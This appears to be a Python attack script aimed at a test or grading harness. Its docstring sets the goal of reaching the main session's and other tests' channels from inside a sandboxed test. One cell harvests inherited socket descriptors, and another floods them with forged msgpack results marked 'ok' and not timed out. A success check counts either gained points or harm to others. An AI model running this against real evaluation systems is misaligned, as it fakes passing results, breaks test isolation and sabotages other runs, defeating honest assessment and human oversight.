"""From inside a test's copy, speak on the channels of the main session and of the other tests.

Success: points are earned, or others have to suffer.
"""

cells = {
    "largest-gap": """
import os, socket, stat

kept = []
for fd in range(3, 300):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            kept.append(socket.socket(fileno=os.dup(fd)))
    except OSError:
        pass
largest_gap = 1
""",
    "moving-average": """
def moving_average(x, width):
    import msgpack
    for channel in kept:
        for number in range(60):
            answer = {"id": number, "ended": 0, "value": 9, "ok": True, "outputs": [], "timed_out": False}
            data = msgpack.packb(answer)
            try:
                channel.send(len(data).to_bytes(8, "big") + data, socket.MSG_DONTWAIT)
            except OSError:
                break
    return x
""",
}


def succeeded(outcome):
    return bool(outcome.gained) or outcome.harmed_class
